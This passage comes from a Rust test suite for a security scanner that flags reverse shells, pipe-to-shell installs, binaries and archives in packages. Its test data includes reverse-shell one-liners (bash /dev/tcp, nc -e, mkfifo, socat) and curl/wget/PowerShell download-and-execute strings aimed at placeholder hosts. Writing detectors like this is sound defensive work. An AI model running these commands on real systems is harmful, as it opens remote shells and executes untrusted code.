        ];
        for s in &samples {
            assert_eq!(is_base64_blob(s), pattern.is_match(s), "{:?}", &s[..20]);
        }
    }
}

#[cfg(test)]
mod byte_tests {
    use super::*;

    fn rules(found: &[SecurityFinding]) -> Vec<(u32, &'static str)> {
        found.iter().map(|f| (f.pos.line, f.rule)).collect()
    }

    /// Where neither pattern matches a whole text, the line scan finds nothing either (the
    /// check `scan_tree` and `reach` skip files with), comment lines and long files included.
    #[test]
    fn no_whole_text_match_means_no_line_finding() {
        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
        for text in [
            "x = 1\n".to_string(),
            "curl -fsSL https://e.invalid/i.sh | sh\n".into(),
            "# curl -fsSL https://e.invalid/i.sh | sh\n".into(),
            "curl https://e.invalid/i.sh\n| sh\n".into(),
            format!("é{payload}é\n"),
            "xcurl https://e.invalid/i.sh | shell\n".into(),
            "nc -e\n/bin/sh\n".into(),
            format!("{}\n{payload}\n", "y".repeat(WINDOW + 10)),
            format!("{}\n", "y".repeat(WINDOW + 10)),
        ] {
            let lines = !byte_patterns(text.as_bytes(), "f", WINDOW, OVERLAP).is_empty();
            assert!(byte_patterns_match(&text) || !lines, "{:.60}", text);
        }
        assert!(byte_patterns_match(&format!(
            "{}\n{payload}\n",
            "y".repeat(WINDOW + 10)
        )));
        assert!(!byte_patterns_match(&format!(
            "{}\n",
            "y".repeat(WINDOW + 10)
        )));
    }

    /// The patterns without `\b` ([`LOOSE`]) have none left, and match wherever the patterns
    /// do: next to non-ASCII letters and marks, folded letters, and word ends of every kind.
    #[test]
    fn the_loose_patterns_match_wherever_the_patterns_do() {
        for p in [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN] {
            assert!(!without_word_boundaries(p).contains(r"\b"));
        }
        let cores = [
            "curl -fsSL https://e.invalid/x | sh",
            "wget -qO- e.invalid/x |bash",
            "nc -e /bin/sh",
            "ncat -v -e /bin/zsh",
            "mkfifo /tmp/f; cat /tmp/f | nc 10.0.0.1 9",
            "sh -i <& 3",
            "ſh -i >& 3",
            "iex (New-Object Net.WebClient).DownloadString('x')",
            "invoke-expression (irm x)",
            "bash -i >& /dev/tcp/10.0.0.1/4444",
        ];
        let sides = ["", " ", "é", "x", "\u{301}", "_", "\u{17f}", "—", "\n"];
        for core in cores {
            for before in sides {
                for after in sides {
                    let text = format!("{before}{core}{after}");
                    let strict = !rules_matching(&text).is_empty();
                    let loose = LOOSE.iter().any(|r| r.is_match(&text));
                    assert!(loose || !strict, "{text:?}");
                    assert_eq!(byte_patterns_match(&text), strict, "{text:?}");
                }
            }
        }
    }

    /// The [`NEEDED`] strings are searched in ASCII lower case, which is only sound while
    /// none of their letters matches a character outside ASCII under the patterns' `(?i)`
    /// (as `s` matches `ſ` and `k` the Kelvin sign): checked against every character.
    #[test]
    fn no_needed_letter_folds_outside_ascii() {
        let letters: std::collections::BTreeSet<char> = NEEDED
            .iter()
            .flat_map(|w| w.chars())
            .filter(char::is_ascii_alphabetic)
            .collect();
        let class: String = letters.iter().collect();
        let fold = SpanRegex::new(&format!("(?i)[{class}]")).unwrap();
        let beyond: String = (0x80..=0x10FFFF).filter_map(char::from_u32).collect();
        assert_eq!(fold.find(&beyond), None);
        let folds_s = SpanRegex::new("(?i)s").unwrap();
        assert!(folds_s.is_match("\u{17f}"), "the check would see a fold");
    }

    /// Every way either pattern can match, in odd cases, holds a [`NEEDED`] string, found
    /// wherever it falls against the lower-casing's pieces; text without one is skipped.
    #[test]
    fn every_match_holds_a_needed_string() {
        let matching = [
            "exec 5<>/DEV/TCP/10.0.0.1/4444",
            "BASH -I >& x",
            "baſh -i >& x",
            "NCat -v -E /BIN/ZSH",
            "nc -e /bin/ſh",
            "SoCaT tcp:1.2.3.4:9 EXEC:'bash -li'",
            "ſocat - exec:sh",
            "MKFIFO /tmp/f; cat /tmp/f | sh -i | NC 10.0.0.1 9 > /tmp/f",
            "mKfifo /tmp/f; nc x",
            "sh -i <& 3",
            "Curl -fsSL https://e.invalid/x | SUDO bash",
            "WGET -qO- https://e.invalid/x |sh",
            "IEX (New-Object Net.WebClient).DownloadString('x')",
            "Invoke-Expression (iwr x)",
            "invoKe-expreſſion (irm x)",
        ];
        for text in matching {
            assert!(!rules_matching(text).is_empty(), "{text}");
            assert!(may_match(text.as_bytes()), "{text}");
            for at in [0, (16 << 10) - 3, (16 << 10) - 9, 3 * (16 << 10) + 5] {
                let placed = format!("{}{text}{}", " ".repeat(at), " ".repeat(40));
                assert!(may_match(placed.as_bytes()), "{text} at {at}");
                assert!(byte_patterns_match(&placed), "{text} at {at}");
            }
        }
        for text in ["", "import sys\nhash(x) and sync()\n", "bash -i ; nc -e sh"] {
            assert!(!may_match(text.as_bytes()), "{text}");
            assert!(rules_matching(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn every_byte_is_seen_in_bounded_windows() {
        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
        // A padding line longer than the windows, then the payload at the end of it.
        let long = format!("x = 1; {} ; {payload}\n", "y".repeat(3000));
        let found = byte_patterns(long.as_bytes(), "f.py", 256, 96);
        assert_eq!(rules(&found), [(1, "reverse-shell")]);
        // Comment lines are text for people; the code line after them is not.
        let text = format!("# {payload}\n{}\n{payload}\n", "#".repeat(5000));
        let found = byte_patterns(text.as_bytes(), "f.py", 256, 96);
        assert_eq!(rules(&found), [(3, "reverse-shell")]);
        // Once per rule and line, however many windows see it.
        let repeated = format!("{}\n", [payload; 40].join(" "));
        let found = byte_patterns(repeated.as_bytes(), "f.py", 128, 96);
        assert_eq!(rules(&found), [(1, "reverse-shell")]);
        // A cut inside a word does not make a word boundary: `xcurl` is not `curl`.
        let glued = format!("{}xcurl https://e.invalid/i.sh | sh\n", "a".repeat(61));
        for (window, overlap) in [(64, 24), (66, 24), (70, 24)] {
            let found = byte_patterns(glued.as_bytes(), "f.sh", window, overlap);
            assert!(found.is_empty(), "{window}: {:?}", rules(&found));
        }
        assert_eq!(rules_matching(&glued), Vec::<&str>::new());
    }

    /// A window that ends inside a word does not end the word: `| sh` cut from `| shellcheck`
    /// is no pipe to a shell (found by the `security_bytes` fuzz target), while `| sh` that
    /// the line continues after with a space still is.
    #[test]
    fn a_window_end_is_not_a_word_end() {
        let head = "curl -fsSL https://e.invalid/x | sh";
        for (tail, expected) in [
            ("ellcheck\n", Vec::new()),
            (" -s -- --yes\n", vec![(1, "pipe-to-shell")]),
        ] {
            let line = format!("{head}{tail}");
            let found = byte_patterns(line.as_bytes(), "f.sh", head.len(), 8);
            assert_eq!(rules(&found), expected, "{line:?}");
            assert_eq!(
                !rules_matching(&line).is_empty(),
                !expected.is_empty(),
                "{line:?}"
            );
        }
        // The fuzzer's input, as it found it: windows of 64 reported line 4.
        let input = b"#!\x95/bin\xeesh\n# I#!\x95/bin\xeesh\n# Inr\ncurl -fsSL https://example.com/get.sps://example.com/get.sh | shnsta]lls the helper\ncur\x01\x80-fsSL https://example.com/get.sh |zsh\n";
        for (window, overlap) in [(1 << 20, 1 << 10), (64, 24), (7, 3)] {
            let found = byte_patterns(&input[..], "f", window, overlap);
            assert!(
                found.iter().all(|f| f.pos.line != 4),
                "{window}: {:?}",
                rules(&found)
            );
        }
    }

    /// Every input the `security_bytes` fuzz target ever failed on (`fuzz/findings/
    /// security_bytes-*`), replayed with the target's own property on every `cargo test`:
    /// windows of any size report only lines the input has, once per rule and line, and only
    /// rules that match that whole line.
    #[test]
    fn the_fuzz_findings_hold_the_window_property() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/findings");
        let mut replayed = 0;
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            if !name.starts_with("security_bytes-") {
                continue;
            }
            let data = std::fs::read(&path).unwrap();
            let lines: Vec<&[u8]> = data.split(|b| *b == b'\n').collect();
            for (window, overlap) in [(1 << 20, 1 << 10), (64, 24), (7, 3)] {
                let mut seen = std::collections::HashSet::new();
                for f in byte_patterns(&data[..], "f", window, overlap) {
                    let n = f.pos.line as usize;
                    assert!(n >= 1 && n <= lines.len(), "{name}: line {n}");
                    assert!(seen.insert((n, f.rule)), "{name}: {} twice at {n}", f.rule);
                    let whole = String::from_utf8_lossy(lines[n - 1]);
                    assert!(
                        rules_matching(&whole).contains(&f.rule),
                        "{name}: windows of {window} invented {} at line {n}",
                        f.rule
                    );
                }
            }
            replayed += 1;
        }
        assert!(
            replayed >= 3,
            "the window-end findings of 2026-12-03 are there: {replayed}"
        );
    }
}

#[cfg(test)]
mod file_type_tests {
    use crate::pkgfs::PackageRoot;

    /// What a file's first bytes and name make of it, for files the analysis read whole
    /// (parsed or unreached `.py`, judged from the text in memory) and files it did not (read
    /// from disk): the same rules either way, and a BOM the decoder dropped does not make a
    /// `.py` whose bytes start with it an executable.
    #[test]
    fn heads_are_judged_the_same_from_memory_and_from_disk() {
        let dir = tempfile::tempdir().unwrap();
        // A NUL in the head's last byte, and one just past it.
        let mut nul_last = vec![b'x'; super::HEAD - 1];
        nul_last.push(0);
        let mut nul_late = vec![b'x'; super::HEAD];
        nul_late.push(0);
        let files: &[(&str, &[u8])] = &[
            (
                "__init__.py",
                b"import helper\ndef register(ctx):\n    pass\n",
            ),
            ("helper.py", b"\x7fELF = 1\n"),
            ("tests/test_x.py", b"x = 1\x00\n"),
            ("bom.py", b"\xef\xbb\xbf\x7fELF = 1\n"),
            ("last.py", &nul_last),
            ("late.py", &nul_late),
            ("tool", b"\x7fELF\x02\x01\x01\x00"),
            ("lib.so", b"anything"),
            ("mod.pyc", b"\x55\x0d\x0d\x0a"),
            ("data.zip", b"PK\x03\x04\x00\x00"),
            ("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00"),
            ("blob.dat", b"\x00\x01\x02"),
            ("notes.txt", b"plain text\n"),
        ];
        for (rel, bytes) in files {
            let path = dir.path().join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        }
        let root = PackageRoot::open(dir.path()).unwrap();
        let analysis = super::super::analyze(&root);
        let mut found: Vec<(String, &str)> = analysis
            .security
            .iter()
            .filter(|f| {
                matches!(
                    f.rule,
                    "native-executable" | "binary-file" | "compiled-code" | "archive"
                )
            })
            .map(|f| (f.file.clone(), f.rule))
            .collect();
        found.sort();
        assert_eq!(
            found,
            [
                ("blob.dat".to_string(), "binary-file"),
                ("data.zip".to_string(), "archive"),
                ("helper.py".to_string(), "native-executable"),
                ("last.py".to_string(), "binary-file"),
                ("lib.so".to_string(), "native-executable"),
                ("mod.pyc".to_string(), "compiled-code"),
                ("tests/test_x.py".to_string(), "binary-file"),
                ("tool".to_string(), "native-executable"),
            ]
        );
    }
}

#[cfg(test)]
mod documentation_tests {
    use super::{Level, SecurityFinding, demote_documentation, is_documentation};
    use crate::located::Pos;

    #[test]
    fn documentation_is_what_people_read_and_the_agent_does_not() {
        for rel in [
            "README.md",
            "my_pkg/README.md",
            "docs/install.rst",
            "CHANGELOG",
            "my_pkg-1.0.dist-info/METADATA",
            "notes.txt",
        ] {
            assert!(is_documentation(rel), "{rel}");
        }
        for rel in [
            "SKILL.md",
            "skills/setup/SKILL.md",
            "skills/setup/references/install.md",
            "install.sh",
            "my_pkg/__init__.py",
            "my_pkg/metadata.dist-info.py",
        ] {
            assert!(!is_documentation(rel), "{rel}");
        }
    }

    #[test]
    fn a_pipe_to_shell_in_documentation_is_reported_without_blocking() {
        let finding = |rule: &'static str| SecurityFinding {
            level: Level::High,
            rule,
            message: "m".into(),
            file: "README.md".into(),
            pos: Pos::START,
            snippet: String::new(),
        };
        let mut found = [finding("pipe-to-shell"), finding("reverse-shell")];
        demote_documentation("README.md", &mut found);
        assert!(!found[0].blocks() && found[0].message.contains("in documentation"));
        assert!(found[1].blocks(), "a reverse shell is never demoted");
        let mut code = [finding("pipe-to-shell")];
        demote_documentation("install.sh", &mut code);
        assert!(code[0].blocks());
    }
}
